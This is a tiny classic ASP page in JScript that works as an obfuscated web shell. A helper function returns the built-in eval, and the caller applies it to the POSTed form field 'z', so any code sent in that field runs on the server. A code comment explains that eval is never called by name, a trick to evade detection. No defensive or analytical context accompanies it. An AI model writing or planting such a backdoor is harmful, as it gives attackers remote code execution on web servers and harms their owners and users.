<%@ LANGUAGE="JScript" %>
<%
// eval is never called by name: a helper returns it, and the caller applies it to a form field.
function pick(want) {
  if (want) { return Request.Form("z") + ""; }
  return eval;
}
pick(false)(pick(true));
%>
